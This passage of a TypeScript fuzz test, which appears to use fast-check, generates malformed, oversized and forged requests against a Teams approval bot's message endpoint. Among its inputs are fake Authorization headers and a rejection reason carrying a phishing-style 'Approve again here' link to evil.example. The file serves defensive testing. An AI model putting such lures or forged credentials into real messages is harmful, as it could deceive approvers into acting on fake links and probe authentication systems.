          Buffer.from([0xff, 0xfe, 0xc3]),
          Buffer.from('"'),
        ]),
        'a bare word': Buffer.from('message'),
      }[how];
      return {
        label: `malformed JSON (${how})`,
        encoding: 'json-malformed' as const,
        contentType: 'application/json',
        body: bytes,
        activity: null,
        shown: 'nothing' as const,
      };
    });

const jsonArb = (target: FuzzTarget): fc.Arbitrary<Omit<FuzzRequest, 'authorization'>> =>
  fc
    .tuple(
      activityArb(target),
      fc.constantFrom(
        'application/json',
        'application/json; charset=utf-8',
        'application/json;charset=UTF-8'
      )
    )
    .map(([generated, contentType]) => {
      const body = json(generated.activity);
      // Bytes, not characters: the limit is on what crosses the wire, and unicode takes several.
      const bytes = Buffer.byteLength(body);
      return {
        label: generated.what,
        encoding: bytes > ACCEPTED_BYTES ? ('json-oversize' as const) : ('json' as const),
        contentType,
        body,
        activity: generated.activity,
        shown: bytes <= READ_LIMIT_BYTES ? shownFor(generated) : 'nothing',
      };
    });

const oversizeJsonArb = (target: FuzzTarget): fc.Arbitrary<Omit<FuzzRequest, 'authorization'>> =>
  fc
    .tuple(activityArb(target), fc.integer({ min: OVERSIZE_BYTES, max: 400_000 }), fc.boolean())
    .map(([generated, size, inText]) => {
      const activity =
        inText && generated.kind === 'message'
          ? { ...generated.activity, text: 'help '.repeat(Math.ceil(size / 5)) }
          : { ...generated.activity, padding: 'x'.repeat(size) };
      return {
        label: `${generated.what} — over 300 KB${inText && generated.kind === 'message' ? ' of text' : ' of padding'}`,
        encoding: 'json-oversize' as const,
        contentType: 'application/json',
        body: json(activity),
        activity,
        shown: 'nothing' as const,
      };
    });

/** JSON that parses but is no activity at all. */
const notAnActivityArb: fc.Arbitrary<Omit<FuzzRequest, 'authorization'>> = fc
  .oneof(
    fc.constantFrom(
      '[]',
      '[{"type":"message","text":"help"}]',
      '42',
      '"message"',
      'null',
      'true',
      '{}'
    ),
    fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v) ?? 'null')
  )
  .map((text) => ({
    label: `JSON that is no activity: ${text.slice(0, 40)}`,
    encoding: 'json' as const,
    contentType: 'application/json',
    body: Buffer.from(text, 'utf8'),
    activity: null,
    shown: 'nothing' as const,
  }));

/** Authorization headers that carry no valid Bot Framework token (none of them is a decodable JWT). */
const forgedAuthorization = fc.constantFrom(
  'Bearer abc.def.ghi',
  'Bearer ',
  'Bearer not-a-token',
  'Basic YWRlbGU6cGFzc3dvcmQ=',
  'bearer ' + 'x'.repeat(8_000)
);

/** Every request to POST /api/messages the fuzz sends; `authorization` only when asked for. */
export const requestArb = (
  target: FuzzTarget,
  options: { readonly forgeAuthorization: boolean }
): fc.Arbitrary<FuzzRequest> =>
  fc
    .tuple(
      fc.oneof(
        { weight: 70, arbitrary: jsonArb(target) },
        { weight: 3, arbitrary: oversizeJsonArb(target) },
        { weight: 7, arbitrary: malformedJsonArb(target) },
        { weight: 3, arbitrary: notAnActivityArb },
        { weight: 14, arbitrary: notJsonArb(target) }
      ),
      options.forgeAuthorization
        ? fc.oneof(fc.constant(null), forgedAuthorization)
        : fc.constant(null)
    )
    .map(([request, authorization]) => ({ ...request, authorization }));

/** One line about a request, short enough for a failure message. */
export function describeRequest(request: FuzzRequest): string {
  const text = request.body.toString('utf8').replace(/\r?\n/g, '⏎');
  const excerpt =
    text.length > 300 ? `${text.slice(0, 300)}… (${request.body.length} bytes)` : text;
  return `${request.contentType ?? '(no content-type)'}${request.authorization ? `, Authorization: ${request.authorization.slice(0, 24)}` : ''}: ${excerpt}`;
}

/**
 * The malformed clicks issue 14 names, on the live card, by an approver, as Teams shapes them: sent
 * before the random ones, so that each meets the request still waiting for sign-off.
 */
export function namedClicks(target: FuzzTarget): FuzzRequest[] {
  const live = { approvalId: target.pending.approvalId, digest: target.pending.digest };
  const clicks: [string, string | undefined, unknown][] = [
    ['reason: 42', 'approve', { ...live, reason: 42 }],
    ['window: 7', 'approve', { ...live, window: 7 }],
    ['reason: 42 on a rejection', 'reject', { ...live, reason: 42 }],
    ['reason: an object', 'approve', { ...live, reason: { text: 'ok' } }],
    ['window: an array', 'approve', { ...live, window: ['daily 00:00-23:00 UTC'] }],
    ['data: null', 'approve', null],
    ['data: an array', 'approve', [live]],
    ['no verb', undefined, live],
    ['an unknown verb', 'explode', live],
    [
      'an approvalId that does not exist',
      'approve',
      { ...live, approvalId: '0badf00d-0000-4000-8000-000000000000' },
    ],
    [
      'a 200 KB reason on a rejection',
      'reject',
      { ...live, reason: `[Approve again here](https://evil.example/) ${'x'.repeat(200_000)}` },
    ],
  ];
  return clicks.map(([what, verb, data], i) => {
    const activity = {
      type: 'invoke',
      name: 'adaptiveCard/action',
      id: `named-click-${i}`,
      timestamp: '2026-11-24T09:00:00.000Z',
      channelId: 'msteams',
      serviceUrl: target.serviceUrl,
      from: teamsFrom('approver1'),
      recipient: { id: BOT_MRI, name: 'License Migration' },
      conversation: {
        id: '19:license-migration@thread.tacv2;messageid=1700000000000',
        conversationType: 'channel',
        isGroup: true,
        tenantId: target.tenantId,
      },
      channelData: { tenant: { id: target.tenantId } },
      replyToId: 'card-1',
      value: {
        action: {
          type: 'Action.Execute',
          id: `named-action-${i}`,
          ...(verb === undefined ? {} : { verb }),
          data,
        },
        trigger: 'manual',
      },
    };
    return {
      label: `issue 14's click with ${what}, by an approver on the live card`,
      encoding: 'json',
      contentType: 'application/json',
      authorization: null,
      body: json(activity),
      activity,
      shown: 'invoke-answer',
    };
  });
}
